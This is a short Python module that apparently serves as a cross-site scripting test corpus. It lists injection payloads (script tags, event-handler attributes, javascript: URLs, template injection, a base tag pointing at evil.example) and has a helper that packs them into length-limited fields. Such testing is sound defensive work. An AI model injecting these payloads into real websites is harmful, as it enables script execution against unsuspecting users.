"""Texts that would run a script where a page forgot to escape them."""

CORPUS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    'https://a.example/"onfocus=alert(1)//',
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "<math><mi xlink:href='javascript:alert(1)'>x",
    "<base href=//evil.example/>alert(1)",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\u003cscript\\u003ealert(1)//",
]


def that_fit(longest: int, first: int = 0) -> str:
    """As many of the texts as fit, from this one on; at least one in every field."""
    chosen, number = "", first % len(CORPUS)
    for one in CORPUS[number:] + CORPUS[:number]:
        longer = f"{chosen} {one}".strip()
        if len(longer) <= longest:
            chosen = longer
    return chosen
